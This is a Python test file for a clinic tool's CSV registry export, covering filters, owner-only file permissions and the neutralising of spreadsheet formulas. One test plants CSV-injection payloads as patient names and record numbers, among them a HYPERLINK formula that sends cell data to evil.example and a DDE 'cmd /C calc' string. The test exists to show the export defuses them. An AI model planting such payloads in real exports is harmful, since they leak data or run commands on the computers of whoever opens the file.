"""`cocm-desktop registry` through cli.main, password from COCM_PASSWORD; the CSV is parsed back."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

from cocm_desktop.cli import main
from cocm_desktop.domain.flags import Flag
from cocm_desktop.services.registry_csv import CSV_COLUMNS

TODAY = date.today()  # the command runs on the real clock


def _setup(build):  # type: ignore[no-untyped-def]
    build.now = datetime.now().replace(microsecond=0)
    a = build.episode(TODAY - timedelta(days=3), baseline=12, cm="cm1", family="=Alpha")  # formula-like name
    b = build.episode(TODAY - timedelta(days=40), baseline=14, cm="cm2", family="Bravo")
    build.care_plan(a)
    return a, b


def _run(clinic_path, monkeypatch, capsys, *args: str):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("COCM_PASSWORD", "demo")
    code = main(["registry", "--db", str(clinic_path), "--user", "cm1", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_registry_csv_to_stdout(build, clinic, clinic_path, monkeypatch, capsys) -> None:  # type: ignore[no-untyped-def]
    _setup(build)
    clinic.close()
    code, out, _ = _run(clinic_path, monkeypatch, capsys)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert tuple(csv.DictReader(io.StringIO(out)).fieldnames) == CSV_COLUMNS
    assert [r["Patient"] for r in rows] == ["'=Alpha, Jane", "Bravo, Jane"]  # formula neutralised
    bravo = rows[1]
    assert bravo["Care manager"] == "Riley Chen" and bravo["Baseline PHQ-9"] == "14"
    assert bravo["Status"] == "enrolled" and bravo["Weeks"] == "5"
    assert bravo[Flag.NEW_NOT_REVIEWED.label] == "yes" and "New, not reviewed" in bravo["Flags"]
    assert rows[0][Flag.NEW_NOT_REVIEWED.label] == ""


def test_registry_filters_and_file(build, clinic, clinic_path, tmp_path, monkeypatch, capsys) -> None:  # type: ignore[no-untyped-def]
    _setup(build)
    clinic.close()
    target = tmp_path / "reg.csv"
    code, _, err = _run(clinic_path, monkeypatch, capsys, "--csv", str(target), "--care-manager", "Riley Chen")
    assert code == 0 and "1 rows" in err
    rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
    assert [r["Patient"] for r in rows] == ["Bravo, Jane"]
    assert target.stat().st_mode & 0o077 == 0  # PHI file readable by the owner only
    code, out, _ = _run(clinic_path, monkeypatch, capsys, "--flagged", "--care-manager", "cm1")
    assert code == 0 and list(csv.DictReader(io.StringIO(out))) == []  # Alpha: 3 days in, complete, nothing due


def test_unknown_care_manager_is_one_plain_line(build, clinic, clinic_path, monkeypatch, capsys) -> None:  # type: ignore[no-untyped-def]
    clinic.close()
    code, out, err = _run(clinic_path, monkeypatch, capsys, "--care-manager", "nobody")
    assert code == 3 and out == "" and err.startswith("Refused:") and "Traceback" not in err


def test_registry_csv_neutralises_formulas_and_replaces_an_open_file_owner_only(
    build, clinic, clinic_path, tmp_path, monkeypatch, capsys, permissive_umask  # type: ignore[no-untyped-def]
) -> None:
    from sqlalchemy import update

    from cocm_desktop.store.models import Patient

    build.now = datetime.now().replace(microsecond=0)
    build.episode(TODAY - timedelta(days=40), baseline=14, family='=HYPERLINK("http://evil.example/?"&C2,"x")')
    with clinic.session() as s:
        s.execute(update(Patient).values(mrn="@SUM(1+1)*cmd|' /C calc'!A0"))
    clinic.close()
    target = tmp_path / "reg.csv"
    target.write_text("an older export")
    target.chmod(0o644)  # e.g. copied in by hand: the export must not stay world-readable
    code, _, _ = _run(clinic_path, monkeypatch, capsys, "--csv", str(target))
    assert code == 0
    (row,) = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
    assert row["Patient"] == "'=HYPERLINK(\"http://evil.example/?\"&C2,\"x\"), Jane"
    assert row["MRN"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row["Baseline PHQ-9"] == "14"
    assert target.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
